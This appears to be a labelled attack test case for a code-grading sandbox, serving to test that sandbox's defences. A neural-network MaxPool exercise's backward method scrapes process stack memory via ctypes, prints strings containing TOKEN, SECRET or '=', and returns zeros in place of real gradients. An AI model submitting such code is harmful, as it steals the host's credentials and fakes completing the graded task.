# attack: reads the environment from where the kernel put it, on the stack
# expect: not-full
# run: by the command too
import ctypes

import numpy as np

from utils import im2col


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        libc = ctypes.CDLL(None)
        address = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value if hasattr(libc, "__libc_stack_end") else None
        for offset in range(0, 1 << 17, 4096):
            try:
                memory = ctypes.string_at((address & ~4095) + offset, 4096)
            except (TypeError, ValueError, OSError):
                break
            for part in memory.split(b"\0"):
                if b"TOKEN" in part or b"SECRET" in part or b"=" in part:
                    print(part)
        return np.zeros(self.x.shape)
        ########## End ##########
